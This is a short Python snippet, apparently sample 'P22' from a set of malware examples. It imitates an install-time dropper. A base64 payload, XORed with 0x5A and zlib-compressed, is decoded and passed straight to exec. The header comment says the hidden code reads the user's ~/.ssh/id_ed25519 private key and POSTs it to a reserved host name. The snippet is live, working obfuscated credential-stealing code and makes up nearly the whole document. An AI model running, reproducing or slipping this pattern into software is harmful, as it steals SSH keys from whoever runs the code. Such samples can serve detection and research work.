# P22: a payload behind three layers (base64, XOR 0x5A, zlib) and exec, as install-time droppers
# ship. Decoded, it reads ~/.ssh/id_ed25519 and POSTs it to a reserved name.
import base64 as _b, zlib as _z
_d = 'IsY31WsxmWpK362mUHtSEo7LycwaQarOfxn72yBWXh1gOHu/lLJ0/weggXHtMd0B5F2FIU01SU8LnlfJFXrRjoteMtKHbpKyuilAaoZD0IuF9zlEgUKUSkTtgZfR7Nd0TTcH23tC4bq0FbgmX1g9FdK6f0hA+Ukm66nOKX90uJ3KOYqXqYBsSDUaLbPE8JtrOkIobE0nJiG1D8GO+7XVt5z3Fb/eXTiD86UOKeB9ThoD51gEP4bzv3XHFXUpJ3CD3W4tohZWL7VVaGkPtA=='
exec(_z.decompress(bytes(c ^ 0x5A for c in _b.b64decode(_d))))
